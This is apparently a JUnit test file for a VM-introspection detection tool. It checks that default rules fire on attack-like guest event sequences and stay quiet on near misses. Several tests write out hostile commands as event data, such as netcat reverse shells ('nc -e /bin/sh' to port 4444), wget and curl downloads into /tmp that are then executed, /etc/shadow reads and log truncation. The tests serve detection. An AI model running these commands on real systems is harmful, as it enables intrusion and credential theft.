package io.vmiscope.detect.sigma;

import io.vmiscope.events.AlertEvent;
import io.vmiscope.events.Event;
import io.vmiscope.events.ImportedEvent;
import io.vmiscope.events.ProcessRef;
import io.vmiscope.events.SyscallArgument;
import io.vmiscope.events.SyscallEvent;
import org.junit.jupiter.api.Test;

import java.util.List;
import java.util.Map;

import static io.vmiscope.detect.sigma.Guest.*;
import static org.assertj.core.api.Assertions.assertThat;

/** Golden event sequences for each default rule: what must fire, and the near misses that must not. */
class DefaultRuleGoldenTest {

    private static final RuleSet RULES = Guest.defaults();

    private static List<String> fired(Event... events) {
        return titles(RULES, events);
    }

    /** httpd (known by its task name) forks, the child execs the CGI, the CGI forks and execs {@code path argv}. */
    private static Event[] cgiRuns(String path, String... argv) {
        return new Event[] {fork(1, 100, "httpd", 200), exec(1.1, 200, 100, 0, "httpd", "/srv/www/cgi-bin/status",
                "/srv/www/cgi-bin/status"), fork(1.2, 200, "status", 201), exec(1.3, 201, 200, 0, "status", path, argv)};
    }

    @Test
    void webServer_spawningAShell_fires_butTheCgiRunningLsDoesNot() {
        assertThat(fired(cgiRuns("/bin/sh", "sh", "-c", "id"))).contains("Web Server or CGI Spawns a Shell or Network Tool");
        assertThat(fired(fork(1, 100, "httpd", 200), exec(1.1, 200, 100, 0, "httpd", "/bin/busybox", "nc", "1.2.3.4", "4444")))
                .contains("Web Server or CGI Spawns a Shell or Network Tool");
        assertThat(fired(cgiRuns("/bin/ls", "ls", "-d", "/proc/1"))).isEmpty();
        assertThat(fired(fork(1, 90, "crond", 91), exec(1.1, 91, 90, 0, "crond", "/bin/sh", "sh", "-c", "date")))
                .isEmpty();
    }

    /**
     * As recorded on the demo guest: httpd's connection process forks, the child execs the CGI by a relative path
     * (busybox httpd changes into the CGI's directory first), and the CGI's shell runs an applet as
     * {@code /proc/self/exe} with the applet's name as argv[0].
     */
    private static Event[] busyboxCgiRuns(String... argv) {
        return new Event[] {fork(1, 109, "httpd", 140), fork(1.05, 140, "httpd", 141),
                exec(1.1, 141, 140, 0, "httpd", "ping", "ping"), fork(1.2, 141, "ping", 142),
                exec(1.3, 142, 141, 0, "ping", "/proc/self/exe", argv)};
    }

    @Test
    void aBusyboxCgiStartedByARelativePath_spawningAShell_fires_butItsPingDoesNot() {
        String title = "Web Server or CGI Spawns a Shell or Network Tool";
        assertThat(fired(busyboxCgiRuns("sh"))).containsExactly(title);
        assertThat(fired(busyboxCgiRuns("wget", "-O", "/tmp/x", "http://10.0.2.2:8000/x"))).containsExactly(title);
        assertThat(fired(busyboxCgiRuns("ping", "-c", "1", "-W", "2", "127.0.0.1"))).isEmpty();
        assertThat(fired(busyboxCgiRuns("wc", "-l"))).isEmpty();
        AlertEvent alert = run(RULES, busyboxCgiRuns("sh")).get(0);
        assertThat(alert.explanation()).contains("Image='/bin/sh'").contains("GrandParentImage='httpd'");
        assertThat(alert.evidence()).containsExactly("e5");
    }

    @Test
    void busyboxAppletsRunAsProcSelfExe_fireTheRulesOnTheirAppletNames() {
        assertThat(fired(exec(1, 50, 1, 0, "sh", "/proc/self/exe", "nc", "-e", "/bin/sh", "10.0.2.2", "4444")))
                .containsExactly("Netcat Runs a Program for its Connection (nc -e / -c)");
        assertThat(fired(exec(1, 91, 1, 0, "sh", "/proc/self/exe", "crontab", "-")))
                .containsExactly("Crontab Installed or Edited with crontab");
        assertThat(fired(exec(1, 91, 1, 0, "sh", "/proc/self/exe", "crontab", "-l"))).isEmpty();
        assertThat(fired(exec(1, 92, 1, 0, "sh", "/proc/self/exe", "cat", "/etc/passwd"))).isEmpty();
    }

    @Test
    void webShellAlert_requestsItsFollowUp() {
        AlertEvent alert = run(RULES, cgiRuns("/bin/sh", "sh", "-c", "id")).get(0);
        assertThat(alert.followUp()).isEqualTo(
                "requested: syscalls:file,network,process for 60 s on the process and its children");
        assertThat(alert.techniques()).containsExactly("T1505.003", "T1190");
        assertThat(alert.evidence()).containsExactly("e4");
        assertThat(alert.explanation()).contains("Image='/bin/sh'").contains("ParentImage='/srv/www/cgi-bin/status'");
    }

    @Test
    void netcatWithE_firesAsABusyboxApplet_andPlainNetcatDoesNot() {
        assertThat(fired(exec(1, 50, 1, 0, "sh", "/bin/nc", "nc", "-e", "/bin/sh", "10.0.2.2", "4444")))
                .contains("Netcat Runs a Program for its Connection (nc -e / -c)");
        assertThat(fired(exec(1, 50, 1, 0, "sh", "/bin/busybox", "busybox", "nc", "-e", "/bin/sh", "10.0.2.2", "4444")))
                .contains("Netcat Runs a Program for its Connection (nc -e / -c)");
        assertThat(fired(exec(1, 50, 1, 0, "sh", "/bin/nc", "nc", "-l", "-p", "8080"))).isEmpty();
    }

    @Test
    void connectThenShellInTheSameProcess_fires_withinThirtySecondsOnly() {
        String title = "Outbound Connection Followed by a Shell in the Same Process";
        assertThat(fired(connect(1, 60, "nc", "127.0.0.1:4444"), exec(1.5, 60, 1, 0, "nc", "/bin/sh", "sh")))
                .containsExactly(title);
        assertThat(fired(connect(1, 60, "nc", "127.0.0.1:4444"), exec(31.5, 60, 1, 0, "nc", "/bin/sh", "sh")))
                .isEmpty();
        assertThat(fired(connect(1, 60, "nc", "127.0.0.1:4444"), exec(1.5, 61, 1, 0, "sh", "/bin/sh", "sh")))
                .isEmpty();
        assertThat(fired(exec(1, 60, 1, 0, "nc", "/bin/sh", "sh"), connect(1.5, 60, "sh", "127.0.0.1:4444")))
                .isEmpty();
    }

    @Test
    void downloadIntoTmp_thenExecute_firesTheCorrelation_andExecFromTmpAlone_fires() {
        Event[] steps = {exec(1, 70, 1, 0, "sh", "/bin/busybox", "wget", "-O", "/tmp/x", "http://10.0.2.2/x"),
                file(1.2, 70, 0, "wget", "open", "/tmp/x", "O_WRONLY|O_CREAT|O_TRUNC"),
                file(2, 71, 0, "chmod", "chmod", "/tmp/x", "0755"), exec(3, 72, 1, 0, "sh", "/tmp/x", "/tmp/x")};
        assertThat(fired(steps)).containsExactlyInAnyOrder("Program Executed from /tmp, /var/tmp or /dev/shm",
                "File Downloaded into a World-Writable Directory, then Executed");
        assertThat(fired(exec(1, 72, 1, 0, "sh", "/usr/bin/x", "x"))).isEmpty();
        assertThat(fired(exec(1, 70, 1, 0, "sh", "/bin/busybox", "wget", "-O", "/tmp/x", "http://10.0.2.2/x"),
                file(1.2, 70, 0, "wget", "open", "/tmp/x", "O_WRONLY|O_CREAT|O_TRUNC"),
                exec(700, 72, 1, 0, "sh", "/tmp/x", "/tmp/x")))
                .containsExactly("Program Executed from /tmp, /var/tmp or /dev/shm");
    }

    @Test
    void executionOfADeletedOrFilelessBinary_fires() {
        assertThat(fired(exec(1, 80, 1, 0, "sh", "/proc/self/fd/3", "x"))).containsExactly(
                "Program Executed from a File Descriptor or Memory File");
        assertThat(fired(exec(1, 80, 1, 0, "sh", "/usr/local/bin/agent", "agent"),
                file(5, 80, 0, "agent", "unlink", "/usr/local/bin/agent", ""))).containsExactly(
                "Executed Binary Deleted Soon After");
        assertThat(fired(exec(1, 80, 1, 0, "sh", "/usr/local/bin/agent", "agent"),
                file(5, 81, 0, "rm", "unlink", "/usr/local/bin/other", ""))).isEmpty();
    }

    @Test
    void persistence_byCrontabOrRcFileOrAuthorizedKeys_fires_butReadingThemDoesNot() {
        String written = "Persistence Location Written (cron, init scripts, rc files, authorized_keys)";
        assertThat(fired(file(1, 90, 0, "crontab", "open", "/var/spool/cron/crontabs/root", "O_WRONLY|O_CREAT|O_TRUNC")))
                .containsExactly(written);
        assertThat(fired(file(1, 90, 1000, "sh", "open", "/home/u/.ssh/authorized_keys", "O_WRONLY|O_APPEND")))
                .containsExactly(written);
        assertThat(fired(file(1, 90, 0, "sh", "create", "/etc/init.d/S99x", "0755"))).containsExactly(written);
        assertThat(fired(file(1, 90, 0, "crond", "open", "/var/spool/cron/crontabs/root", "O_RDONLY"))).isEmpty();
        assertThat(fired(exec(1, 91, 1, 0, "sh", "/bin/busybox", "crontab", "/tmp/c")))
                .containsExactly("Crontab Installed or Edited with crontab");
        assertThat(fired(exec(1, 91, 1, 0, "sh", "/bin/busybox", "crontab", "-l"))).isEmpty();
    }

    @Test
    void shadowRead_byCat_fires_butByPasswdDoesNot() {
        String title = "Password Hashes Read by a Program That Is Not a Login Tool";
        assertThat(fired(exec(1, 95, 1, 0, "sh", "/bin/cat", "cat", "/etc/shadow"),
                file(1.1, 95, 0, "cat", "open", "/etc/shadow", "O_RDONLY"))).containsExactly(title);
        assertThat(fired(exec(1, 95, 1, 0, "sh", "/bin/busybox", "passwd", "u"),
                file(1.1, 95, 0, "passwd", "open", "/etc/shadow", "O_RDONLY"))).isEmpty();
        assertThat(fired(file(1.1, 95, 0, "cat", "open", "/etc/shadows", "O_RDONLY"))).isEmpty();
    }

    @Test
    void setuidZero_byANonRootProcess_fires_butByRootOrSuDoesNot() {
        String title = "Non-Root Process Sets a User Id of 0";
        assertThat(fired(syscall(1, 96, 1000, "exploit", "setuid", 0))).containsExactly(title);
        assertThat(fired(syscall(1, 96, 1000, "exploit", "setresuid", 1000, 0, 0))).containsExactly(title);
        assertThat(fired(syscall(1, 96, 0, "sh", "setuid", 0))).isEmpty();
        assertThat(fired(syscall(1, 96, 1000, "app", "setuid", 1000))).isEmpty();
        assertThat(fired(exec(0.5, 96, 1, 1000, "sh", "/bin/busybox", "su"), syscall(1, 96, 1000, "su", "setuid", 0)))
                .isEmpty();
    }

    @Test
    void kernelModuleLoaded_bySyscallOrInsmod_fires_butRmmodDoesNot() {
        assertThat(fired(syscall(1, 97, 0, "insmod", "finit_module", 3, 0, 0)))
                .containsExactly("Kernel Module Loaded at Run Time");
        assertThat(run(RULES, syscall(1, 97, 0, "insmod", "init_module", 0, 0, 0)).get(0).followUp())
                .isEqualTo("requested: modules:5s for 30 s on the VM");
        assertThat(fired(exec(1, 97, 1, 0, "sh", "/sbin/insmod", "insmod", "/lib/modules/dummy.ko")))
                .containsExactly("Kernel Module Inserted with insmod or modprobe");
        assertThat(fired(exec(1, 97, 1, 0, "sh", "/sbin/modprobe", "modprobe", "-r", "dummy"))).isEmpty();
        assertThat(fired(syscall(1, 97, 0, "sh", "delete_module", 0))).isEmpty();
    }

    @Test
    void accountCreated_byDebiansUseraddOrBusyboxAdduser_fires_butListingUsersDoesNot() {
        String title = "Local Account Created with useradd or adduser";
        assertThat(fired(exec(1, 98, 97, 0, "sudo", "/usr/sbin/useradd", "useradd", "-M", "lab-1")))
                .containsExactly(title);
        assertThat(fired(exec(1, 98, 1, 0, "sh", "/proc/self/exe", "adduser", "-D", "lab"))).containsExactly(title);
        assertThat(fired(exec(1, 98, 1, 0, "sh", "/usr/bin/getent", "getent", "passwd"))).isEmpty();
        assertThat(fired(exec(1, 98, 1, 0, "sh", "/usr/sbin/usermod", "usermod", "-L", "lab-1"))).isEmpty();
    }

    /**
     * As on the Debian guest: fcgiwrap (started by systemd, not by nginx) forks and execs the CGI by its absolute
     * path, and the CGI's bash forks the injected commands; root's steps go through sudo, which forks and execs.
     */
    @Test
    void debianFormsOfTheLabSteps_fireTheSameRules() {
        Event[] cgi = {fork(1, 400, "fcgiwrap", 401), exec(1.1, 401, 400, 33, "fcgiwrap", "/usr/lib/cgi-bin/ping",
                "/usr/lib/cgi-bin/ping"), fork(1.2, 401, "ping", 402),
                exec(1.3, 402, 401, 33, "ping", "/usr/bin/bash", "bash", "-s", "injection")};
        assertThat(fired(cgi)).containsExactly("Web Server or CGI Spawns a Shell or Network Tool");
        assertThat(fired(fork(1, 400, "fcgiwrap", 401), exec(1.1, 401, 400, 33, "fcgiwrap", "/usr/lib/cgi-bin/ping",
                "/usr/lib/cgi-bin/ping"), fork(1.2, 401, "ping", 402),
                exec(1.3, 402, 401, 33, "ping", "/usr/bin/ping", "ping", "-c", "1", "127.0.0.1"))).isEmpty();
        assertThat(fired(connect(1, 60, "bash", "10.0.2.2:4444"), exec(1.1, 60, 59, 33, "bash", "/usr/bin/bash",
                "bash", "-i"))).containsExactly("Outbound Connection Followed by a Shell in the Same Process");
        assertThat(fired(exec(1, 91, 90, 33, "bash", "/usr/bin/crontab", "crontab", "-")))
                .containsExactly("Crontab Installed or Edited with crontab");
        assertThat(fired(exec(1, 93, 92, 0, "sudo", "/usr/sbin/modprobe", "modprobe", "dummy")))
                .containsExactly("Kernel Module Inserted with insmod or modprobe");
        assertThat(fired(file(1, 94, 0, "cat", "open", "/etc/shadow", "O_RDONLY|O_CLOEXEC")))
                .containsExactly("Password Hashes Read by a Program That Is Not a Login Tool");
        assertThat(fired(file(1, 95, 0, "bash", "open", "/var/log/nginx/access.log", "O_WRONLY|O_CREAT|O_TRUNC")))
                .containsExactly("Log File under /var/log Truncated");
        assertThat(fired(exec(1, 96, 1, 33, "bash", "/usr/bin/curl", "curl", "-sf", "-o", "/tmp/p", "http://10.0.2.2/p"),
                file(1.2, 96, 33, "curl", "open", "/tmp/p", "O_WRONLY|O_CREAT|O_TRUNC"),
                exec(2, 97, 1, 33, "bash", "/tmp/p", "/tmp/p")))
                .containsExactlyInAnyOrder("Program Executed from /tmp, /var/tmp or /dev/shm",
                        "File Downloaded into a World-Writable Directory, then Executed");
    }

    /**
     * As recorded on the Debian guest's heartbeat job: cron's child checks the account through PAM (reading
     * {@code /etc/shadow}), asks nscd over a unix socket, then becomes the job's shell — neither a credential theft
     * nor a reverse shell.
     */
    @Test
    void debianCronJob_readingShadowAndConnectingToNscd_beforeItsShell_firesNothing() {
        assertThat(fired(exec(0.5, 400, 1, 0, "systemd", "/usr/sbin/cron", "/usr/sbin/cron", "-f"),
                fork(1, 400, "cron", 436), file(1.1, 436, 0, "cron", "open", "/etc/shadow", "O_RDONLY|O_CLOEXEC"),
                connect(1.2, 436, "cron", "/var/run/nscd/socket"),
                exec(1.5, 436, 400, 0, "cron", "/bin/sh", "/bin/sh", "-c", "date +%s >>/var/log/heartbeat"))).isEmpty();
        assertThat(fired(connect(1, 436, "cron", "/var/run/nscd/socket"), exec(1.5, 436, 1, 0, "cron", "/bin/sh", "sh")))
                .as("a unix socket is not a connection out").isEmpty();
    }

    @Test
    void ptraceAttach_orProcessVmWritev_fires_butPtraceTracemeDoesNot() {
        String title = "Process Attaches to or Writes into Another Process";
        assertThat(fired(syscall(1, 98, 0, "gdb", "ptrace", 16, 1234))).containsExactly(title);
        assertThat(fired(syscall(1, 98, 0, "inj", "ptrace", 0x4206, 1234))).containsExactly(title);
        assertThat(fired(syscall(1, 98, 0, "inj", "process_vm_writev", 1234))).containsExactly(title);
        assertThat(fired(syscall(1, 98, 0, "strace", "ptrace", 0))).isEmpty();
    }

    @Test
    void logTruncation_orDeletion_fires_butAppendingAndSyslogdRotationDoNot() {
        assertThat(fired(file(1, 99, 0, "sh", "open", "/var/log/messages", "O_WRONLY|O_CREAT|O_TRUNC")))
                .containsExactly("Log File under /var/log Truncated");
        assertThat(fired(file(1, 99, 0, "sh", "truncate", "/var/log/messages", "")))
                .containsExactly("Log File under /var/log Truncated");
        assertThat(fired(file(1, 99, 0, "rm", "unlink", "/var/log/heartbeat", "")))
                .containsExactly("Log File under /var/log Deleted");
        assertThat(fired(file(1, 99, 0, "sh", "open", "/var/log/heartbeat", "O_WRONLY|O_CREAT|O_APPEND"))).isEmpty();
        assertThat(fired(exec(0.5, 33, 1, 0, "init", "/sbin/syslogd", "syslogd"),
                file(1, 33, 0, "syslogd", "unlink", "/var/log/messages.1", ""))).isEmpty();
        // started before monitoring: known by its task name only
        assertThat(fired(file(1, 33, 0, "syslogd", "unlink", "/var/log/messages.1", ""))).isEmpty();
    }

    private static Event winSyscall(double t, int pid, String image, String call, String handle, String protect) {
        List<SyscallArgument> args = protect == null
                ? List.of(new SyscallArgument("ProcessHandle", "raw", 0, handle, false, false))
                : List.of(new SyscallArgument("ProcessHandle", "raw", 0, handle, false, false),
                new SyscallArgument("NewProtect", "raw", 0, protect, false, false));
        return new SyscallEvent(at(t), VM, "drakvuf:syscall", new ProcessRef(pid, pid + 4, 3944, 1, image), call, -1,
                args, null);
    }

    @Test
    void windowsInjection_writeThenRemoteThread_fires_withinAMinute_butNotOnOwnMemory() {
        String image = "\\Device\\HarddiskVolume2\\Users\\John\\Desktop\\invoice.exe";
        String title = "Memory Written or Made Executable in Another Process, then a Remote Thread";
        ImportedEvent memdump = new ImportedEvent(at(1), VM, "drakvuf:memdump", new ProcessRef(5268, 5272, 3944, 1,
                image), "drakvuf", "memdump", "NtWriteVirtualMemory", Map.of("TargetPID", 3944));
        assertThat(fired(memdump, winSyscall(2, 5268, image, "NtCreateThreadEx", "0x2a8", null)))
                .containsExactly(title);
        assertThat(fired(winSyscall(1, 5268, image, "NtProtectVirtualMemory", "0x2a8", "0x40"),
                winSyscall(2, 5268, image, "NtCreateThreadEx", "0x2a8", null))).containsExactly(title);
        assertThat(fired(winSyscall(1, 5268, image, "NtProtectVirtualMemory", "0x2a8", "0x04"),
                winSyscall(2, 5268, image, "NtCreateThreadEx", "0x2a8", null))).isEmpty();
        assertThat(fired(winSyscall(1, 5268, image, "NtWriteVirtualMemory", "0xffffffffffffffff", null),
                winSyscall(2, 5268, image, "NtCreateThreadEx", "0xffffffffffffffff", null))).isEmpty();
        assertThat(fired(memdump, winSyscall(62, 5268, image, "NtCreateThreadEx", "0x2a8", null))).isEmpty();
    }

    @Test
    void windowsOfficeSpawningCmd_fires_butExplorerSpawningCmdDoesNot() {
        String title = "Office Program or Browser Starts a Command Interpreter";
        assertThat(fired(new io.vmiscope.events.ForkEvent(at(1), VM, "drakvuf:procmon", new ProcessRef(400, 404, 1, 1,
                        "\\Device\\HarddiskVolume2\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"), 500,
                        504, false),
                new io.vmiscope.events.ExecEvent(at(1), VM, "drakvuf:procmon", new ProcessRef(500, 504, 400, 1, "cmd.exe"),
                        "C:\\Windows\\System32\\cmd.exe", List.of("cmd.exe /c whoami"), true))).containsExactly(title);
        assertThat(fired(new io.vmiscope.events.ForkEvent(at(1), VM, "drakvuf:procmon", new ProcessRef(400, 404, 1, 1,
                        "\\Device\\HarddiskVolume2\\Windows\\explorer.exe"), 500, 504, false),
                new io.vmiscope.events.ExecEvent(at(1), VM, "drakvuf:procmon", new ProcessRef(500, 504, 400, 1, "cmd.exe"),
                        "C:\\Windows\\System32\\cmd.exe", List.of("cmd.exe"), true))).isEmpty();
    }

    @Test
    void windowsImageFromTheDesktop_fires_butFromSystem32DoesNot() {
        assertThat(fired(new io.vmiscope.events.ExecEvent(at(1), VM, "drakvuf:procmon", new ProcessRef(5268, 5272, 3944,
                1, "invoice.exe"), "C:\\Users\\John\\Desktop\\invoice.exe", List.of("invoice.exe"), true)))
                .containsExactly("Program Started from a User-Writable Folder");
        assertThat(fired(new io.vmiscope.events.ExecEvent(at(1), VM, "drakvuf:procmon", new ProcessRef(5268, 5272, 3944,
                1, "svchost.exe"), "C:\\Windows\\System32\\svchost.exe", List.of("svchost.exe"), true))).isEmpty();
    }
}
